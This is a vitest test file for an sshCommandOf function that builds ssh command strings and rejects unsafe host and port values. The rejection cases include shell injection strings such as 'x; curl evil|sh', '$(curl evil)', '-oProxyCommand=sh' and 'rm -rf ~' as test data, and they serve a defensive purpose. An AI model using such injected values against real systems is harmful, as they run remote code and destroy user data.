import { describe, expect, it } from "vitest";
import { golemRejection } from "../errors/golem-rejection.ts";
import { sshCommandOf } from "./ssh-command-of.ts";

const refusal = (access: { host: unknown; port: unknown }) =>
  golemRejection(Promise.resolve().then(() => sshCommandOf({ access })));

describe("sshCommandOf", () => {
  it("builds the command from a host name or IP literal, a port and the fixed user", () => {
    expect(sshCommandOf({ access: { host: "10.0.0.5", port: 50800 } })).toBe(
      "ssh -p 50800 -o ServerAliveInterval=60 golem@10.0.0.5",
    );
    expect(sshCommandOf({ access: { host: "p.example", port: 22 }, keyFile: "~/.ssh/k" })).toBe(
      "ssh -i ~/.ssh/k -p 22 -o ServerAliveInterval=60 golem@p.example",
    );
    expect(sshCommandOf({ access: { host: "[2001:db8::1]", port: 2222 } })).toBe(
      "ssh -p 2222 -o ServerAliveInterval=60 golem@2001:db8::1",
    );
    expect(sshCommandOf({ access: { host: "::1", port: 1 } })).toBe(
      "ssh -p 1 -o ServerAliveInterval=60 golem@::1",
    );
  });

  it.each([
    ["a command after the host", { host: "x; curl evil|sh", port: 22 }, "host"],
    ["a command substitution", { host: "$(curl evil)", port: 22 }, "host"],
    ["an option as the host", { host: "-oProxyCommand=sh", port: 22 }, "host"],
    ["another user in the host", { host: "root@p.example", port: 22 }, "host"],
    ["a newline", { host: "p.example\nrm -rf ~", port: 22 }, "host"],
    ["brackets around no IPv6", { host: "[p.example]", port: 22 }, "host"],
    ["no host", { host: 42, port: 22 }, "host"],
    ["a command after the port", { host: "p.example", port: "22 && rm -rf ~" }, "port"],
    ["a fractional port", { host: "p.example", port: 22.5 }, "port"],
    ["port 0", { host: "p.example", port: 0 }, "port"],
    ["a port above 65535", { host: "p.example", port: 65_536 }, "port"],
  ])("refuses %s", async (_name, access, field) => {
    const error = await refusal(access);
    expect(error.code).toBe("SSH_ACCESS_INVALID");
    expect(error.details).toEqual({ field });
    expect(error.message).toMatch(/no command was built$/);
  });
});
